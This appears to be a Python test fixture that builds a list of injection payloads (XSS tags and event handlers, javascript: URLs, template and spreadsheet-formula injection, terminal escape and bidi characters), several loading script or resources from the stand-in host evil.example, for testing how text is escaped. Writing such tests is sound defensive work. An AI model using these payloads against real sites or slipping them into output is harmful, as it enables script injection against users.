"""Texts that try to become more than text: markup, script, links, styles, template and spreadsheet code."""

from __future__ import annotations

_VECTORS = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example/'>x</a>",
    "<a xlink:href='https://evil.example/'>x</a>",
    "<math href='javascript:alert(1)'>x</math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=https://evil.example/x onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<x style='background:url(https://evil.example/x)'>",
    "<span style='color:red;background:url(//evil.example/x)'>x</span>",
    " onmouseover=alert(1) ",
    "javascript:alert(1)",
    "{{ 7*7 }}{% import os %}",
    "${alert(1)}`${alert(2)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%{x}<extra>alert(1)</extra>",
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
)  # fmt: skip
_BEFORE = (
    *("", "\"'>", "</script></style></title></textarea>", "--><!--]]>", "\u2028\x00\x0b"),
    *("\x1b]0;owned\x07\x1b[2J\x9b31m", "\u202e\u2066\u200f", "a\r=1+1\r"),
)
PAYLOADS = tuple(before + vector for before in _BEFORE for vector in _VECTORS)
